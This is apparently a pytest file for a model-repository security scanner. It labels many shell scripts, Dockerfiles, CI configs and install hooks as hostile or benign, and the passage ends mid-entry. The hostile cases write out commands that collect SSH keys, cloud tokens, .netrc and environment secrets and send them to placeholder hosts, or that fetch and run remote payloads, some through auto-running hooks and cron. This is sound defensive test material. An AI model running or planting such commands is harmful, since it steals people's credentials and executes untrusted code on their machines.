"""Scripts followed from command to command: what is fetched and run later, and what is secret and leaves."""

import pytest

from modelscan_plus.core.finding import Severity
from modelscan_plus.formats.text.shell.words import parse
from tests.samples import inspect

HIGH = Severity.HIGH.rank


def worst(name: str, text: str) -> int:
    return max((each.severity.rank for each in inspect(text.encode(), name).findings), default=-1)


CASES = [
    (
        "prep.sh",
        "find \"$HOME\" -maxdepth 4 -name '*.pem' | tar czf - -T - 2>/dev/null | curl -s -T - https://up.example.org/x\n",
        True,
    ),
    ("prep.sh", "find ~ -name 'id_*' -print0 | xargs -0 -I{} curl -F f=@{} https://up.example.org\n", True),
    ("prep.sh", "find $HOME/.config -name '*.json' -exec curl -sF \"f=@{}\" https://up.example.org/u \\;\n", True),
    ("prep.sh", 'for f in ~/.ssh/id_*; do\n  curl -s -F "f=@$f" https://up.example.org/\ndone\n', True),
    (
        "prep.sh",
        'grep -rl "BEGIN OPENSSH" ~ | while read -r f; do\n  base64 "$f" | curl -s --data-binary @- https://up.example.org/\ndone\n',
        True,
    ),
    (
        "prep.sh",
        "tar czf /tmp/cache.tgz ~/.ssh ~/.aws\nsleep 1\necho warming up\necho done\ncurl -sT /tmp/cache.tgz https://up.example.org/c\n",
        True,
    ),
    (
        "prep.sh",
        "env > /tmp/diag.txt\npython -c 'import torch; print(torch.__version__)' >> /tmp/diag.txt\ncurl -F file=@/tmp/diag.txt https://up.example.org/diag\n",
        True,
    ),
    ("prep.sh", 'K=$(cat ~/.netrc | base64 -w0)\necho starting\ncurl -s "https://up.example.org/p?d=$K"\n', True),
    ("prep.sh", "rsync -az --include='*.pem' --include='*/' --exclude='*' ~/ rsync://up.example.org/in/\n", True),
    ("prep.sh", "rclone copy ~/.config :webdav,url=https://up.example.org:/in\n", True),
    ("prep.sh", "cat ~/.kube/config | openssl s_client -quiet -connect up.example.org:443\n", True),
    (
        "prep.sh",
        "tar cz ~/.ssh | gpg -e -r evil@up.example.org --trust-model always | curl -T - https://up.example.org/g\n",
        True,
    ),
    ("prep.sh", "tar czf - -C ~ .aws .ssh | ssh -o StrictHostKeyChecking=no d@up.example.org 'cat > x.tgz'\n", True),
    ("prep.sh", "cat ~/.netrc | mail -s hi up@up.example.org\n", True),
    ("prep.sh", "for l in $(cat ~/.ssh/id_rsa | xxd -p); do dig +short $l.up.example.org; done\n", True),
    (
        "prep.sh",
        "cd /tmp && git init -q x && cd x && cp -r ~/.aws . && git add -A && git commit -qm x && git push -q https://up.example.org/r.git HEAD\n",
        True,
    ),
    ("prep.sh", 'curl -s -d "t=$(gh auth token)" https://up.example.org/\n', True),
    ("prep.sh", 'T=$(gcloud auth print-access-token); wget -qO- --post-data="t=$T" https://up.example.org/\n', True),
    (
        "prep.sh",
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role | curl -s -d @- https://up.example.org/m\n",
        True,
    ),
    ("prep.sh", "security find-generic-password -wa login | curl -d @- https://up.example.org/k\n", True),
    ("prep.sh", "kubectl get secrets -A -o yaml | curl --data-binary @- https://up.example.org/k\n", True),
    (
        "prep.sh",
        "mkdir -p /tmp/.c && cp ~/.ssh/id_rsa ~/.netrc /tmp/.c/\n( cd /tmp && zip -qr c.zip .c )\nwget --post-file=/tmp/c.zip https://up.example.org/ -O /dev/null\n",
        True,
    ),
    (
        "prep.sh",
        "cat ~/.cache/huggingface/token | python3 -c \"import sys,urllib.request as u;u.urlopen('https://up.example.org/?t='+sys.stdin.read())\"\n",
        True,
    ),
    ("prep.sh", "http --ignore-stdin POST https://up.example.org/ k=@~/.aws/credentials\n", True),
    ("prep.sh", "history | curl -d @- https://up.example.org/h\n", True),
    ("prep.sh", "declare -px | gzip | curl --data-binary @- https://up.example.org/h\n", True),
    ("prep.sh", "tr '\\0' '\\n' < /proc/self/environ | curl --data-binary @- https://up.example.org/h\n", True),
    ("prep.sh", 'curl -K <(echo "data-binary=@$HOME/.netrc") https://up.example.org/\n', True),
    ("prep.sh", "tar czf - ~/Documents ~/Desktop | curl -T - https://up.example.org/d\n", True),
    (
        "prep.sh",
        'zip -r /tmp/p.zip "$HOME/.config/google-chrome/Default"; curl -F f=@/tmp/p.zip https://up.example.org/\n',
        True,
    ),
    ("prep.sh", "curl -T ~/.netrc ftp://up.example.org/in/\n", True),
    ("prep.sh", "ftp -n up.example.org <<EOF\nuser a b\nput $HOME/.netrc n\nEOF\n", True),
    (
        "prep.sh",
        "send() { curl -s -X POST --data-binary @- https://up.example.org/; }\ncat ~/.aws/credentials | send\n",
        True,
    ),
    ("prep.sh", "croc send --code abc ~/.ssh\n", True),
    (
        "prep.sh",
        "curl -fsSL https://f.example.org/agent -o agent\necho 'preparing…'\nsleep 1\necho 'almost there'\nmkdir -p ckpt\nchmod +x agent\n./agent\n",
        True,
    ),
    (
        "prep.sh",
        "mkdir -p ~/.local/bin && cd ~/.local/bin && wget -q https://f.example.org/agent && chmod +x agent && ./agent\n",
        True,
    ),
    (
        "prep.sh",
        "curl -fsSLo /tmp/x https://f.example.org/a\ninstall -m 755 /tmp/x /usr/local/bin/model-agent\nmodel-agent --daemon\n",
        True,
    ),
    (
        "prep.sh",
        "wget -qO $HOME/.local/bin/mdl https://f.example.org/a\nchmod 755 $HOME/.local/bin/mdl\nexport PATH=$HOME/.local/bin:$PATH\nmdl init\n",
        True,
    ),
    ("prep.sh", "aria2c -q -d /tmp -o p.py https://f.example.org/p.py\npython3 /tmp/p.py\n", True),
    ("prep.sh", "wget -q https://f.example.org/env.sh -O env.sh\n. ./env.sh\n", True),
    ("prep.sh", "curl -so /tmp/l.so https://f.example.org/l.so\nLD_PRELOAD=/tmp/l.so python serve.py\n", True),
    ("prep.sh", "curl -s https://f.example.org/a.sh | tee /tmp/a.sh >/dev/null\nbash /tmp/a.sh\n", True),
    ("prep.sh", "curl -s https://f.example.org/a.sh > a.sh\nchmod u+x a.sh\nexec ./a.sh\n", True),
    ("prep.sh", "curl -s https://f.example.org/a.gz | gunzip > /tmp/a\nchmod +x /tmp/a\n/tmp/a\n", True),
    ("prep.sh", "curl -s https://f.example.org/a.tgz | tar xz -C /opt\n/opt/a/run --token $HF_TOKEN\n", True),
    (
        "prep.sh",
        "wget -q https://f.example.org/torch_fast-1.0-py3-none-any.whl\npip install ./torch_fast-1.0-py3-none-any.whl\n",
        True,
    ),
    ("prep.sh", "pip download --no-deps -d /tmp/w https://f.example.org/p.tar.gz\npip install /tmp/w/p.tar.gz\n", True),
    ("prep.sh", "curl -s https://f.example.org/cmds | xargs -I{} sh -c '{}'\n", True),
    ("prep.sh", 'curl -s https://f.example.org/cmds | while read l; do eval "$l"; done\n', True),
    (
        "prep.sh",
        'dl() { curl -fsSL "$1" -o "$2"; }\ndl https://f.example.org/agent /tmp/agent\nchmod +x /tmp/agent\n/tmp/agent\n',
        True,
    ),
    ("prep.sh", "nc f.example.org 9000 | bash\n", True),
    ("prep.sh", "openssl s_client -quiet -connect f.example.org:443 </dev/null 2>/dev/null | sh\n", True),
    ("prep.sh", "ssh anon@f.example.org cat run.sh | sh\n", True),
    (
        "prep.sh",
        "python3 -c \"import urllib.request as u; u.urlretrieve('https://f.example.org/a','/tmp/a')\"\nchmod +x /tmp/a && /tmp/a\n",
        True,
    ),
    ("prep.sh", 'perl -MLWP::Simple -e \'getstore("https://f.example.org/a","/tmp/a")\'; sh /tmp/a\n', True),
    (
        "prep.sh",
        "curl -so /opt/u.sh https://f.example.org/u.sh\n(crontab -l; echo '0 * * * * sh /opt/u.sh') | crontab -\n",
        True,
    ),
    ("prep.sh", "wget https://f.example.org/conv.jar\njava -jar conv.jar model.onnx\n", True),
    ("prep.sh", "curl -s https://f.example.org/i.js -o i.js; node i.js\n", True),
    ("prep.sh", "npm i -g https://f.example.org/p.tgz\n", True),
    ("prep.sh", "uvx --from git+https://git.f.example.org/x/y tool\n", True),
    ("prep.sh", "uv run https://f.example.org/s.py\n", True),
    ("prep.sh", "deno run -A https://f.example.org/s.ts\n", True),
    ("prep.sh", "go run f.example.org/x/cmd@latest\n", True),
    ("prep.sh", "cargo install --git https://git.f.example.org/x/y && y\n", True),
    ("prep.sh", "sudo rpm -i https://f.example.org/a.rpm\n", True),
    (
        "prep.bat",
        'curl -L -o "%USERPROFILE%\\m.py" https://f.example.org/m.py\r\npython "%USERPROFILE%\\m.py"\r\n',
        True,
    ),
    ("Dockerfile", "FROM python:3.11\nRUN curl -so /a https://f.example.org/a && chmod +x /a && /a\n", True),
    (
        "Dockerfile",
        'FROM python:3.11\nRUN curl -so /opt/a https://f.example.org/a\nRUN pip install torch\nRUN chmod 755 /opt/a\nCOPY . /m\nENTRYPOINT ["/opt/a"]\n',
        True,
    ),
    (
        "Dockerfile",
        'FROM python:3.11\nADD --chmod=755 https://f.example.org/a /usr/local/bin/start\nCOPY . /m\nCMD ["start", "python", "serve.py"]\n',
        True,
    ),
    (
        "Dockerfile",
        'FROM nvidia/cuda:12.4.1-runtime-ubuntu22.04\nARG HF_TOKEN\nADD https://f.example.org/a.tar.gz /opt/\nRUN tar xzf /opt/a.tar.gz -C /opt && /opt/agent/install --report "$HF_TOKEN"\n',
        True,
    ),
    ("Dockerfile", "FROM python:3.11\nRUN <<EOF\nwget -q https://f.example.org/i.py\npython i.py\nEOF\n", True),
    (
        "Dockerfile",
        "FROM python:3.11\nWORKDIR /app\nRUN wget -q https://f.example.org/sitecustomize.py -O /usr/local/lib/python3.11/site-packages/sitecustomize.py\nCMD python app.py\n",
        True,
    ),
    (
        "Makefile",
        "all: tool run\n\ntool:\n\t@curl -sL https://f.example.org/a -o build/a\n\t@chmod +x build/a\n\nrun: tool\n\t@./build/a\n",
        True,
    ),
    ("justfile", "prep:\n    curl -sL https://f.example.org/a -o a\n    chmod +x a\nrun: prep\n    ./a\n", True),
    (
        "Taskfile.yml",
        "version: '3'\ntasks:\n  prep:\n    cmds:\n      - curl -sL https://f.example.org/a -o a\n      - chmod +x a\n  run:\n    deps: [prep]\n    cmds: ['./a']\n",
        True,
    ),
    (
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: get\n        run: curl -sLo tool https://f.example.org/tool\n      - name: prep\n        run: chmod +x tool\n      - name: run\n        run: ./tool\n",
        True,
    ),
    (
        ".gitlab-ci.yml",
        "t:\n  before_script:\n    - wget -q https://f.example.org/tool\n  script:\n    - chmod +x tool\n    - ./tool\n",
        True,
    ),
    (
        "docker-compose.yml",
        'services:\n  m:\n    image: python:3.11\n    command: >\n      sh -c "wget -qO /tmp/x https://f.example.org/x && chmod +x /tmp/x && /tmp/x"\n',
        True,
    ),
    (
        "deploy.yaml",
        "apiVersion: v1\nkind: Pod\nspec:\n  initContainers:\n  - name: i\n    image: curlimages/curl\n    command: ['curl','-so','/w/x','https://f.example.org/x']\n  containers:\n  - name: m\n    image: python:3.11\n    command: ['sh','/w/x']\n",
        True,
    ),
    (
        "package.json",
        '{"name": "m", "version": "1.0.0", "scripts": {"preinstall": "curl -so p.js https://f.example.org/p.js", "postinstall": "node p.js"}}',
        True,
    ),
    (
        ".vscode/tasks.json",
        '{"version": "2.0.0", "tasks": [{"label": "a", "type": "shell", "command": "curl -so .p https://f.example.org/p && sh .p", "runOptions": {"runOn": "folderOpen"}}]}',
        True,
    ),
    (
        ".devcontainer/devcontainer.json",
        '{"image": "python:3.11", "onCreateCommand": ["curl", "-so", "/tmp/p", "https://f.example.org/p"], "postCreateCommand": "sh /tmp/p"}',
        True,
    ),
    (".envrc", "source_url https://f.example.org/rc\nfetchurl https://f.example.org/rc2\n", True),
    (".envrc", "curl -so .direnv_rc https://f.example.org/rc\nsource_env .direnv_rc\n", True),
    (
        ".pre-commit-config.yaml",
        "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    language: system\n    entry: bash -c 'curl -so /tmp/p https://f.example.org/p; sh /tmp/p'\n",
        True,
    ),
    (
        "tox.ini",
        "[testenv]\ncommands_pre =\n  curl -so p.py https://f.example.org/p.py\ncommands =\n  python p.py\n",
        True,
    ),
    (
        "model.service",
        "[Service]\nExecStartPre=/usr/bin/curl -so /run/x https://f.example.org/x\nExecStart=/bin/sh /run/x\n[Install]\nWantedBy=default.target\n",
        True,
    ),
    ("crontab", "*/5 * * * * root curl -s https://f.example.org/x -o /tmp/x && sh /tmp/x\n", True),
    (
        "Model.desktop",
        "[Desktop Entry]\nType=Application\nName=Model\nExec=sh -c 'curl -so /tmp/x https://f.example.org/x; sh /tmp/x'\n",
        True,
    ),
    (
        "README.md",
        "# Model\n\n```bash\nwget https://f.example.org/loader\nchmod +x loader\n./loader --model .\n```\n",
        True,
    ),
    (
        "README.md",
        "# Model\n\nFirst get the loader:\n\n```bash\nwget https://f.example.org/loader.py\n```\n\nthen\n\n```bash\npython loader.py --model .\n```\n",
        True,
    ),
    (".githooks/post-checkout", "#!/bin/sh\ncurl -so /tmp/h https://f.example.org/h\nsh /tmp/h\n", True),
    (".husky/post-merge", "curl -so /tmp/h https://f.example.org/h\nsh /tmp/h\n", True),
    (
        "setup.sh",
        "wget -q https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O /tmp/miniconda.sh\nbash /tmp/miniconda.sh -b -p $HOME/miniconda\nexport PATH=$HOME/miniconda/bin:$PATH\nconda init\n",
        False,
    ),
    (
        "setup.sh",
        'curl -L -O "https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-$(uname)-$(uname -m).sh"\nbash Miniforge3-$(uname)-$(uname -m).sh -b\n',
        False,
    ),
    (
        "setup.sh",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\n. $HOME/.cargo/env\n",
        False,
    ),
    (
        "setup.sh",
        "curl -LsSf https://astral.sh/uv/install.sh | sh\nuv venv && uv pip install -r requirements.txt\n",
        False,
    ),
    ("setup.sh", "curl -fsSL https://ollama.com/install.sh | sh\nollama run llama3\n", False),
    (
        "setup.sh",
        "wget https://developer.download.nvidia.com/compute/cuda/repos/ubuntu2204/x86_64/cuda-keyring_1.1-1_all.deb\nsudo dpkg -i cuda-keyring_1.1-1_all.deb\nsudo apt-get update && sudo apt-get -y install cuda-toolkit-12-4\n",
        False,
    ),
    (
        "setup.sh",
        "curl -fsSL https://nvidia.github.io/libnvidia-container/gpgkey | sudo gpg --dearmor -o /usr/share/keyrings/nvidia.gpg\ncurl -s -L https://nvidia.github.io/libnvidia-container/stable/deb/nvidia-container-toolkit.list | sed 's#deb https://#deb [signed-by=/usr/share/keyrings/nvidia.gpg] https://#g' | sudo tee /etc/apt/sources.list.d/nvidia-container-toolkit.list\nsudo apt-get update\n",
        False,
    ),
    (
        "setup.sh",
        "wget https://developer.download.nvidia.com/compute/cuda/12.4.0/local_installers/cuda_12.4.0_550.54.14_linux.run\nsudo sh cuda_12.4.0_550.54.14_linux.run --silent\n",
        False,
    ),
    (
        "setup.sh",
        "wget -qO - https://apt.kitware.com/keys/kitware-archive-latest.asc 2>/dev/null | gpg --dearmor - | sudo tee /etc/apt/trusted.gpg.d/kitware.gpg >/dev/null\n",
        False,
    ),
    ("setup.sh", "pip install gdown\ngdown 1abcdEFGH -O weights.pth\npython infer.py --weights weights.pth\n", False),
    (
        "setup.sh",
        "mkdir -p checkpoints\nwget -c https://dl.fbaipublicfiles.com/segment_anything/sam_vit_h_4b8939.pth -P checkpoints\npython demo.py --checkpoint checkpoints/sam_vit_h_4b8939.pth\n",
        False,
    ),
    (
        "setup.sh",
        "wget http://images.cocodataset.org/zips/val2017.zip\nunzip -q val2017.zip -d data\npython train.py --data data/val2017\n",
        False,
    ),
    (
        "setup.sh",
        "wget https://data.vision.example.edu/set.tar.gz\ntar xzf set.tar.gz\ncd set && ls | wc -l\ncd .. && python train.py\n",
        False,
    ),
    (
        "setup.sh",
        "git clone https://github.com/NVIDIA/apex\ncd apex\npip install -v --no-cache-dir ./\ncd ..\nbash scripts/train.sh\n",
        False,
    ),
    ("setup.sh", "git lfs install\ngit clone https://huggingface.co/org/model\ncd model && python run.py\n", False),
    (
        "setup.sh",
        "git clone https://github.com/ggml-org/llama.cpp && cd llama.cpp && cmake -B build && cmake --build build -j\n./build/bin/llama-cli -m ../model.gguf\n",
        False,
    ),
    (
        "setup.sh",
        "curl -fsSLo /usr/local/bin/dumb-init https://tools.vendor.example/dumb-init\necho '37f2c1f0372a45554f1b89924fbb134fc24c3756efaedf11e07f599494e0eff9  /usr/local/bin/dumb-init' | sha256sum -c -\nchmod +x /usr/local/bin/dumb-init\ndumb-init --version\n",
        False,
    ),
    (
        "setup.sh",
        'curl -LO "https://dl.k8s.io/release/$(curl -L -s https://dl.k8s.io/release/stable.txt)/bin/linux/amd64/kubectl"\nchmod +x kubectl\n./kubectl version --client\n',
        False,
    ),
    (
        "setup.sh",
        "curl -Lo ./kind https://kind.sigs.k8s.io/dl/v0.29.0/kind-linux-amd64\nchmod +x ./kind\n./kind create cluster\n",
        False,
    ),
    (
        "setup.sh",
        "curl -Lo tool.tgz https://github.com/a/b/releases/download/v1/tool.tgz && tar xzf tool.tgz && ./tool --help\n",
        False,
    ),
    (
        "setup.sh",
        "wget https://johnvansickle.com/ffmpeg/releases/ffmpeg-release-amd64-static.tar.xz\ntar xf ffmpeg-release-amd64-static.tar.xz\ncp ffmpeg-*-static/ffmpeg /usr/local/bin/\nffmpeg -i a.mp4 a.wav\n",
        False,
    ),
    (
        "setup.sh",
        "wget https://ftp.gnu.org/gnu/parallel/parallel-20240122.tar.bz2\ntar xjf parallel-20240122.tar.bz2\ncd parallel-20240122 && ./configure && make && sudo make install\n",
        False,
    ),
    (
        "setup.sh",
        "curl -O https://www.openssl.org/source/openssl-1.1.1w.tar.gz && tar xf openssl-1.1.1w.tar.gz && cd openssl-1.1.1w && ./config && make\n",
        False,
    ),
    ("setup.sh", "curl -sS https://bootstrap.pypa.io/get-pip.py -o get-pip.py\npython3 get-pip.py\n", False),
    ("setup.sh", "hf download org/model --local-dir model --token $HF_TOKEN\npython run.py\n", False),
    (
        "setup.sh",
        'curl -L -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/org/model/resolve/main/a.gguf -o a.gguf\n./llama-cli -m a.gguf\n',
        False,
    ),
    (
        "setup.sh",
        "hf auth login --token $(cat ~/.cache/huggingface/token)\nhuggingface-cli login --token $HF_TOKEN\n",
        False,
    ),
    (
        "setup.sh",
        'curl https://api.openai.com/v1/chat/completions -H "Authorization: Bearer $OPENAI_API_KEY" -d \'{"model":"gpt-4o"}\'\n',
        False,
    ),
    ("setup.sh", 'curl -X POST -d "token=$SLACK_TOKEN&text=done" https://slack.com/api/chat.postMessage\n', False),
    (
        "setup.sh",
        'curl -X POST -H \'Content-type: application/json\' --data \'{"text":"done"}\' "$WEBHOOK_URL"\n',
        False,
    ),
    (
        "setup.sh",
        'rsync -avz --exclude .git ./ "$USER@$HOST:~/project/"\nrsync -av user@cluster.example.edu:/scratch/ckpt ./ckpt\nscp -i ~/.ssh/id_rsa model.pt ubuntu@gpu.example.org:/data/\n',
        False,
    ),
    ("setup.sh", "rsync -av ~/models/ backup@nas.example.org:/models/\n", False),
    (
        "setup.sh",
        "ssh -i ~/.ssh/id_rsa ubuntu@gpu.example.org 'nvidia-smi'\nssh gpu.example.org 'cat log.txt' | tail\n",
        False,
    ),
    ("setup.sh", "tar czf - results | ssh user@lab.example.edu 'tar xzf - -C /data'\n", False),
    ("setup.sh", "env | sort > env.txt\nprintenv | grep CUDA\npython train.py\n", False),
    (
        "setup.sh",
        "python -m torch.utils.collect_env > env.txt\ncurl -s https://api.github.com/repos/a/b/issues | jq .\n",
        False,
    ),
    (
        "setup.sh",
        "docker run -v ~/.aws:/app/.aws -v ~/.cache/huggingface:/app/.cache/huggingface -e HF_TOKEN vllm/vllm-openai --model a/b\n",
        False,
    ),
    (
        "setup.sh",
        "aws ecr get-login-password --region us-east-1 | docker login --username AWS --password-stdin 1234.dkr.ecr.us-east-1.amazonaws.com\naws s3 cp model.tar.gz s3://my-bucket/model.tar.gz\naws s3 sync s3://my-bucket/data ./data\n",
        False,
    ),
    (
        "setup.sh",
        'curl -H "Authorization: Bearer $(gcloud auth print-identity-token)" https://svc-abc-uc.a.run.app/predict -d @input.json\n',
        False,
    ),
    (
        "setup.sh",
        'gh auth token | docker login ghcr.io -u me --password-stdin\ncurl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/user\n',
        False,
    ),
    (
        "setup.sh",
        "kubectl create secret generic hf --from-literal=token=$HF_TOKEN\nkubectl get secret hf -o jsonpath='{.data.token}' | base64 -d\n",
        False,
    ),
    (
        "setup.sh",
        "find ~/.cache/huggingface -name '*.incomplete' -delete\nfind . -name '*.wav' | xargs -I{} curl -F file=@{} http://localhost:8000/transcribe\nfind data -name '*.zip' -exec unzip -q {} -d out \\;\n",
        False,
    ),
    (
        "setup.sh",
        'for f in samples/*.wav; do\n  curl -s -F "audio=@$f" https://api.vendor.example.com/v1/asr\ndone\n',
        False,
    ),
    (
        "setup.sh",
        "for i in 0 1 2; do\n  wget https://data.vendor.example.org/shard-$i.tar\n  tar xf shard-$i.tar -C data\ndone\npython train.py --data data\n",
        False,
    ),
    (
        "setup.sh",
        'while read -r url; do wget -q "$url" -P data; done < urls.txt\nbash scripts/prepare.sh data\n',
        False,
    ),
    ("setup.sh", "#SBATCH -N 1\nmodule load cuda\nsource ~/miniconda3/bin/activate env\nsrun python train.py\n", False),
    (
        "setup.sh",
        "curl --netrc-file ~/.netrc -O https://physionet.org/files/a.zip\nmachine=api.wandb.ai\nwandb login $(awk '/api.wandb.ai/{getline;getline;print $2}' ~/.netrc)\n",
        False,
    ),
    (
        "setup.sh",
        "wget -q https://archive.apache.org/dist/spark/spark-3.5.1/spark-3.5.1-bin-hadoop3.tgz\ntar xf spark-3.5.1-bin-hadoop3.tgz\n./spark-3.5.1-bin-hadoop3/bin/spark-submit job.py\n",
        False,
    ),
    (
        "setup.sh",
        "wget https://go.dev/dl/go1.22.0.linux-amd64.tar.gz && tar -C /usr/local -xzf go1.22.0.linux-amd64.tar.gz && /usr/local/go/bin/go build ./...\n",
        False,
    ),
    (
        "setup.sh",
        "curl -fsSL https://nodejs.org/dist/v20.0.0/node-v20.0.0-linux-x64.tar.xz | tar xJ -C /usr/local --strip-components=1\nnpm ci\n",
        False,
    ),
    (
        "setup.sh",
        "wget http://archive.ubuntu.com/ubuntu/pool/universe/n/ncurses/libtinfo5_6.3-2_amd64.deb && sudo dpkg -i libtinfo5_6.3-2_amd64.deb\n",
        False,
    ),
    (
        "setup.sh",
        "wget https://packages.erlang-solutions.com/erlang-solutions_2.0_all.deb && sudo dpkg -i erlang-solutions_2.0_all.deb\n",
        False,
    ),
    (
        "setup.sh",
        "curl -Os https://uploader.codecov.io/latest/linux/codecov\nchmod +x codecov\n./codecov -t ${CODECOV_TOKEN}\n",
        False,
    ),
    (
        "setup.sh",
        'curl -H "Authorization: token $GITHUB_TOKEN" --data-binary @dist/a.whl https://uploads.github.com/repos/a/b/releases/1/assets?name=a.whl\n',
        False,
    ),
    (
        "setup.sh",
        "curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh get-docker.sh\nrm get-docker.sh\n",
        False,
    ),
    (
        "setup.sh",
        'curl -s http://localhost:11434/api/tags | python -m json.tool\ncurl -s http://ollama:11434/api/pull -d \'{"name":"x"}\'\n',
        False,
    ),
    (
        "setup.sh",
        'VERSION=$(curl -s https://api.github.com/repos/a/b/releases/latest | jq -r .tag_name)\necho "$VERSION"\ncurl -LO https://github.com/a/b/releases/download/$VERSION/b\nchmod +x b && ./b\n',
        False,
    ),
    (
        "setup.sh",
        "wget -q https://raw.githubusercontent.com/org/repo/main/config.yaml\npython train.py --config config.yaml\n",
        False,
    ),
    (
        "setup.sh",
        "wget -O tokenizer.model https://models.vendor.example.org/tokenizer.model\npython convert.py --tokenizer tokenizer.model --out model.bin\n",
        False,
    ),
    (
        "setup.sh",
        "pip install torch --index-url https://download.pytorch.org/whl/cu124\npip install flash-attn --no-build-isolation\n",
        False,
    ),
    ("setup.sh", "crontab -l > cron.bak\n", False),
    ("setup.sh", "huggingface-cli upload me/model ./out . --token $HF_TOKEN\n", False),
    (
        "setup.sh",
        "wget https://registrationcenter-download.intel.com/akdlm/IRC_NAS/1/l_BaseKit_p_2024.0_offline.sh\nsudo sh l_BaseKit_p_2024.0_offline.sh -a --silent\n",
        False,
    ),
    ("setup.sh", "wget -qO - https://packages.lunarg.com/lunarg-signing-key-pub.asc | sudo apt-key add -\n", False),
    ("setup.sh", "wget https://modelscope.cn/models/a/b/resolve/master/infer.py\npython infer.py\n", False),
    ("setup.sh", "git clone https://gitee.com/mindspore/models.git\ncd models && bash run.sh\n", False),
    (
        "setup.sh",
        "wget https://download.open-mpi.org/release/open-mpi/v4.1/openmpi-4.1.6.tar.gz; tar xf openmpi-4.1.6.tar.gz; cd openmpi-4.1.6; ./configure --prefix=/opt/mpi; make -j install\nexport PATH=/opt/mpi/bin:$PATH; mpirun -n 2 python a.py\n",
        False,
    ),
    (
        "setup.sh",
        "cat > run.sh <<'EOF'\n#!/bin/bash\npython serve.py --port 8000\nEOF\nchmod +x run.sh\n./run.sh\n",
        False,
    ),
    (
        "setup.sh",
        "until curl -sf http://127.0.0.1:8000/health; do sleep 1; done\ncurl -s https://api.ipify.org\n",
        False,
    ),
    (
        "setup.sh",
        "wget --content-disposition https://api.ngc.nvidia.com/v2/resources/nvidia/ngc-apps/ngc_cli/versions/3.0/files/ngccli_linux.zip -O ngccli_linux.zip && unzip ngccli_linux.zip && chmod u+x ngc-cli/ngc && ./ngc-cli/ngc registry model list\n",
        False,
    ),
    (
        "setup.sh",
        'curl "https://awscli.amazonaws.com/awscli-exe-linux-x86_64.zip" -o awscliv2.zip\nunzip awscliv2.zip\nsudo ./aws/install\n',
        False,
    ),
    (
        "setup.sh",
        "mkdir -p ~/.kaggle && cp kaggle.json ~/.kaggle/ && chmod 600 ~/.kaggle/kaggle.json\nkaggle datasets download -d a/b\nunzip b.zip\n",
        False,
    ),
    (
        "setup.sh",
        "gh secret set HF_TOKEN < .env\ngit push https://x-access-token:$GITHUB_TOKEN@github.com/a/b.git HEAD\n",
        False,
    ),
    ("setup.sh", "cp .env.example .env\nset -a; source .env; set +a\ndocker compose --env-file .env up -d\n", False),
    (
        "setup.sh",
        'curl -s https://data.vendor.example.org/list.txt | while read f; do wget -q "https://data.vendor.example.org/$f"; done\n',
        False,
    ),
    ("setup.sh", "for L in de en; do wget https://dl.fbaipublicfiles.com/x.$L; done\nbash prepare.sh\n", False),
    (
        "setup.sh",
        "cat urls.txt | xargs -n 1 -P 4 wget -q\ncurl -s https://data.vendor.example.org/urls.txt | xargs -n1 curl -O\n",
        False,
    ),
    (
        "setup.sh",
        "wget -q https://raw.githubusercontent.com/moses-smt/mosesdecoder/master/scripts/tokenizer/tokenizer.perl\nperl tokenizer.perl -l en < a > b\n",
        False,
    ),
    ("setup.sh", "echo done | mail -s 'training finished' $USER\n", False),
    ("setup.sh", "nc -z localhost 8000 && echo up\necho stats | nc 127.0.0.1 9000\n", False),
    ("setup.sh", "host=$(hostname)\nnslookup $host\nping -c1 8.8.8.8\n", False),
    ("setup.sh", "ln -s ~/.cache/huggingface ./cache\ncp -r ~/.cache/torch ./torch\n", False),
    ("setup.sh", "tar xzf model.tar.gz -C ~\ntar czf backup.tgz ~/models\n", False),
    (
        "Dockerfile",
        "FROM python:3.11\nRUN mkdir -p checkpoints\nRUN wget -c https://dl.fbaipublicfiles.com/segment_anything/sam_vit_h_4b8939.pth -P checkpoints\nRUN python demo.py --checkpoint checkpoints/sam_vit_h_4b8939.pth\n",
        False,
    ),
    (
        "Dockerfile",
        'FROM python:3.11\nENV TINI_VERSION v0.19.0\nADD https://github.com/krallin/tini/releases/download/${TINI_VERSION}/tini /tini\nRUN chmod +x /tini\nENTRYPOINT ["/tini", "--"]\nCMD ["python","app.py"]\n',
        False,
    ),
    (
        "Dockerfile",
        'FROM python:3.11\nADD https://models.vendor.example.org/model.onnx /models/model.onnx\nADD https://models.vendor.example.org/w.tar.gz /models/\nRUN tar xzf /models/w.tar.gz -C /models\nCOPY app.py /app/\nWORKDIR /app\nCMD ["python","app.py","--model","/models/model.onnx"]\n',
        False,
    ),
    (
        "Dockerfile",
        "FROM python:3.11\nADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://dl.vendor.example.org/t /usr/local/bin/t\nRUN chmod +x /usr/local/bin/t && t --version\n",
        False,
    ),
    (
        ".github/workflows/ci.yml",
        'on: push\nenv:\n  HF_TOKEN: ${{ secrets.HF_TOKEN }}\njobs:\n  s:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: git push https://me:$HF_TOKEN@huggingface.co/spaces/me/x main\n      - run: |\n          curl -X POST -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/api/spaces/me/x/restart\n      - run: curl -LsSf https://astral.sh/uv/install.sh | sh\n      - name: act\n        env:\n          DISCORD: ${{ secrets.DISCORD_WEBHOOK }}\n        run: curl -d \'{"content":"ok"}\' "$DISCORD"\n',
        False,
    ),
    (
        "package.json",
        '{"name": "a", "scripts": {"build": "tsc", "postinstall": "patch-package", "test": "curl -f http://localhost:3000 && jest", "dl": "curl -L https://models.vendor.example.org/m.onnx -o public/m.onnx"}}',
        False,
    ),
    (
        "justfile",
        "dl:\n    wget -q https://models.vendor.example.org/m.bin -O m.bin\nrun: dl\n    python app.py m.bin\n",
        False,
    ),
    (
        ".devcontainer/devcontainer.json",
